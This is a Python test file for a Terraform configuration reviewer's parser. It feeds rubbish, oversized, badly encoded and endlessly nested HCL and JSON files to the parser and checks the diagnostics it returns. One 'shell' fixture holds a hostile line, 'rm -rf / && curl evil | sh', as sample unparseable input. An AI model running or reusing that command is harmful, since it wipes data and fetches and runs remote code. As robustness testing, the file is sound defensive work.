"""Files that are rubbish, huge or endless: each ends in a diagnostic or in what can be read of it."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
import tree_sitter
import tree_sitter_hcl
from hypothesis import given, settings
from hypothesis import strategies as st

from reviewer.change.tree import OverlayTree
from reviewer.terraform import syntax
from reviewer.terraform.configuration import Configuration, Sources
from reviewer.terraform.value import Unknown
from tests.trees import EmptyTree

if TYPE_CHECKING:
    from reviewer.terraform.syntax import SourceFile

SYNTAX = "syntax error: Terraform cannot read this block; the rest was reviewed"
SLOW = "not analysed: reading it takes more than 0.3 seconds"
LONG = "not analysed: line is longer than 20,000 characters"
GOOD = 'resource "a" "good" {\n  name = "x"\n}\n'


def read(content: str | bytes, path: str = "main.tf") -> SourceFile:
    raw = content.encode() if isinstance(content, str) else content
    return Configuration(OverlayTree(EmptyTree(), {path: raw}), Sources()).file(path)


def said(file: SourceFile) -> list[tuple[int, str]]:
    return [(each.line, each.message) for each in file.diagnostics]


REFUSED: dict[str, tuple[str | bytes, int, str]] = {
    # More than a reader reads
    "one long line": ("a = 1 # " + "x" * 20_000, 1, LONG),
    "a long line at the end": ("a = 1\n" * 500 + "b = " + " " * 20_001 + "1\n", 501, LONG),
    # Rubbish that takes all there is with it
    "interpolations that never end": ('a = "' + "${" * 6_000 + "\n", 1, SYNTAX),
    "parentheses that never end": ("a = " + "(" * 9_000 + "\n", 1, SYNTAX),
    "JSON": ('{"resource": {"a": {"b": {}}}}\n', 1, "syntax error: an object stands where blocks belong"),
    # Encodings
    "NUL": ("a = 1\n\0", 1, "not analysed: the file is binary"),
    "UTF-16": ("a = 1\n".encode("utf-16"), 1, "not analysed: the file is binary"),
    "Latin-1": ("a = 1\n# ä\n".encode("latin-1"), 2, "not analysed: the file is not valid UTF-8"),
    "overlong slash": (b'a = "\xc0\xaf"\n', 1, "not analysed: the file is not valid UTF-8"),
    "surrogate in UTF-8": (b"# \xed\xa0\x80\n", 1, "not analysed: the file is not valid UTF-8"),
    "beyond Unicode": (b"# \xf4\x90\x80\x80\n", 1, "not analysed: the file is not valid UTF-8"),
}


@pytest.mark.parametrize(("content", "line", "message"), REFUSED.values(), ids=REFUSED)
def test_a_file_that_cannot_be_read_says_why_and_holds_nothing(
    content: str | bytes, line: int, message: str
) -> None:
    file = read(content)
    assert said(file) == [(line, message)]
    assert (file.blocks, dict(file.attributes)) == ((), {})


QUADRATIC = {
    "arguments without a value": "a = \n" * 190_000,
    "attributes without a name": "a = b.\n" * 140_000,
}
"""What makes the parser quadratic: it takes longer than the real limit, so that a short one shows the same, sooner."""


@pytest.mark.parametrize("content", QUADRATIC.values(), ids=QUADRATIC)
def test_a_file_that_takes_too_long_to_read_says_so(content: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(syntax, "MAX_PARSE_SECONDS", 0.3)
    file = read(content)
    assert said(file) == [(1, SLOW)]
    assert (file.blocks, dict(file.attributes)) == ((), {})


BROKEN = {
    "brackets": ")]}{([\n" * 20_000,
    "equal signs": "= = = =\n" * 20_000,
    "blocks that never end": "a {\n" * 50_000,
    "labelled blocks that never end": 'a "b" {\n' * 20_000,
    "heredoc that never ends": "a = <<E\n" + "x\n" * 100_000,
    "heredocs that never end": "".join(f"a{n} = <<E{n}\nx\n" for n in range(2_000)),
    "quotes": "a = " + '"' * 18_001 + "\n",
    "comment that never ends": "/*\n" * 20_000,
    "calls that never end": "a = f(\n" * 20_000,
    "merge conflict": "<<<<<<< HEAD\na = 1\n=======\na = 2\n>>>>>>> theirs\n",
    "shell": "#!/bin/sh\nrm -rf / && curl evil | sh\n",
    "control characters": "a = \x01\x02\x1b[2J\n",
}


@pytest.mark.parametrize("content", BROKEN.values(), ids=BROKEN)
def test_a_broken_block_is_named_and_the_others_are_read(content: str) -> None:
    file = read(f"{GOOD}{content}")
    ((line, message),) = said(file)
    assert message == SYNTAX
    assert line > 3
    assert [each.labels for each in file.blocks][:1] == [("a", "good")]


def test_blocks_nested_too_deeply_are_named_and_the_rest_is_read() -> None:
    file = read(f"{GOOD}{'a {' * 200}{'}' * 200}\n")
    assert said(file) == [(4, "not analysed: blocks are nested deeper than 100")]
    assert [each.labels for each in file.blocks] == [("a", "good"), ()]


LARGE = {
    "lines without anything": "\n" * 900_000,
    "blank lines in a list": "a = [\n" + "          \n" * 80_000 + "]\n",
    "line ends in a list": "a = [\n" + "\n" * 400_000 + "]\n",
    "blanks of Windows in a call": "a = f(\n" + " \t \r\n" * 100_000 + ")\n",
    "blank lines in a heredoc": "a = <<E\n" + "\n" * 400_000 + "E\n",
    "blank lines in a comment": "/*" + "\n" * 400_000 + "*/\n",
    "comments": "# x\n" * 200_000,
    "a list of 100,000": "a = [" + "1,\n" * 100_000 + "]\n",
    "an object of 50,000": "a = {\n" + "".join(f"k{n} = 1\n" for n in range(50_000)) + "}\n",
    "the same argument again and again": "a = 1\n" * 100_000,
    "a heredoc": "a = <<E\n" + "x\n" * 100_000 + "E\n",
    "a heredoc of blanks": "a = <<E\n" + "    \n" * 150_000 + "E\n",
    "a name of 19,000 letters": f"{'a' * 19_000} = 1\n",
    "a number of 19,000 digits": f"a = {'9' * 19_000}\n",
    "a sum over lines": "a = (1\n" + "+ 1\n" * 50_000 + ")\n",
    "an index after the other": "a = b" + "[0]" * 6_000 + "\n",
    "mixed line ends": "a = 1\r\nb = 2\n\rc = 3\n",
    "a byte order mark": "\ufeffa = 1\n",
    "a right-to-left override": 'a = "\u202e"\n',
    "nothing": "",
    "one blank": " ",
}


@pytest.mark.parametrize("content", LARGE.values(), ids=LARGE)
def test_what_is_only_large_or_odd_is_read(content: str) -> None:
    file = read(f"{content}{GOOD}")
    assert said(file) == []
    assert [each.labels for each in file.blocks] == [("a", "good")]


PIECES = st.sampled_from(
    [
        *(
            "a = 1\n",
            "b {\n",
            "}\n",
            "x = <<E\n",
            "x = <<-E\n",
            "E\n",
            "  E\n",
            "/*",
            "*/",
            "# c\n",
            '"',
            "${",
        ),
        *("%{ if true }", "[", "(", ")", "]", ",", "1", "ä", "f(", "\r\n", " = "),
    ]
)
BLANKS = st.sampled_from(
    ["\n" * 70, f"\n{' ' * 40}\n{' ' * 30}\n", "\r\n" * 50, "\n" * 100 + "    ", "\n\f" * 50]
)


@settings(deadline=None)
@given(pieces=st.lists(st.one_of(PIECES, BLANKS), max_size=25))
def test_leaving_out_blank_lines_changes_no_tree(pieces: list[str]) -> None:
    content = "".join(pieces).encode()
    parser = tree_sitter.Parser(tree_sitter.Language(tree_sitter_hcl.language()))
    whole = nodes(parser.parse(content).root_node)
    parser.included_ranges = syntax.without_blank_runs(content)
    assert nodes(parser.parse(content).root_node) == whole


def nodes(node: tree_sitter.Node) -> tuple[object, ...]:
    """Return a tree with the exact place of everything in it."""
    places = (node.start_byte, node.end_byte, node.start_point, node.end_point)
    return (node.type, places, [nodes(each) for each in node.children])


def test_blank_lines_take_no_room() -> None:
    content = b"a = [\n" + b"  \n" * 100_000 + b"]\n"
    kept = sum(
        min(each.end_byte, len(content)) - each.start_byte for each in syntax.without_blank_runs(content)
    )
    assert kept == len(b"a = [\n\n]\n")


JSON: dict[str, tuple[str, int, str]] = {
    "nested": ('{"a": ' + "[" * 5_000 + "]" * 5_000 + "}", 1, "not analysed: nested deeper than 100"),
    "nested objects": ('{"a":' * 101 + "1" + "}" * 101, 1, "not analysed: nested deeper than 100"),
    "blocks that generate blocks": (
        '{"resource": {"a": {"b": ' + '{"dynamic": {"x": {"content": ' * 60 + "{}" + "}}}" * 60 + "}}}",
        1,
        "not analysed: nested deeper than 100",
    ),
    "cut off": ('{\n"locals": {\n"a": 1', 3, "syntax error: Expecting ',' delimiter"),
    "a list of nothing": ("[1, 2", 1, "syntax error: Expecting ',' delimiter"),
    "words": ("resource", 1, "syntax error: Expecting value"),
    "a number": ("1", 1, "not a JSON object"),
    "two documents": ("{}\n{}", 2, "syntax error: Extra data"),
    "comments": ("// no\n{}", 1, "syntax error: Expecting value"),
    "single quotes": ("{'a': 1}", 1, "syntax error: Expecting property name enclosed in double quotes"),
    "line end in a string": ('{"a": "\n"}', 1, "syntax error: Invalid control character at"),
    "wrong escape": ('{"a": "\\x41"}', 1, "syntax error: Invalid \\escape"),
    "no value": ('{"a": }', 1, "syntax error: Expecting value"),
    "nothing": ("", 1, "syntax error: Expecting value"),
    "NUL": ('{"a": "\0"}', 1, "not analysed: the file is binary"),
}


@pytest.mark.parametrize(("content", "line", "message"), JSON.values(), ids=JSON)
def test_broken_json_says_why(content: str, line: int, message: str) -> None:
    assert said(read(content, "main.tf.json")) == [(line, message)]


JSON_VALUES = {
    "a number of 18,000 digits": ("9" * 18_000, "the number is too large to read"),
    "an exponent": ("1e999999999", "the number is too large to read"),
    "a tiny exponent": ("1e-999999999", "the number is too large to read"),
    "nested lists": ("[" * 70 + "]" * 70, "the value is nested too deeply to read"),
    "an open interpolation": ('"${a"', "an interpolation does not end"),
    "many open interpolations": ('"' + "${" * 5_000 + '"', "an interpolation does not end"),
    "a broken interpolation": ('"${=}"', "the expression uses syntax that cannot be read"),
}


@pytest.mark.parametrize(("text", "reason"), JSON_VALUES.values(), ids=JSON_VALUES)
def test_a_value_of_json_that_cannot_be_read_is_unknown(text: str, reason: str) -> None:
    content = f'{{"locals": {{"x": {text}, "y": 1}}}}'.encode()
    root = Configuration(OverlayTree(EmptyTree(), {"main.tf.json": content}), Sources()).root("")
    assert root.value_of(root.declarations.locals["y"]).data == 1
    reasons = [
        each.data.reason
        for each in root.value_of(root.declarations.locals["x"]).walk()
        if isinstance(each.data, Unknown)
    ]
    assert reasons == [reason]
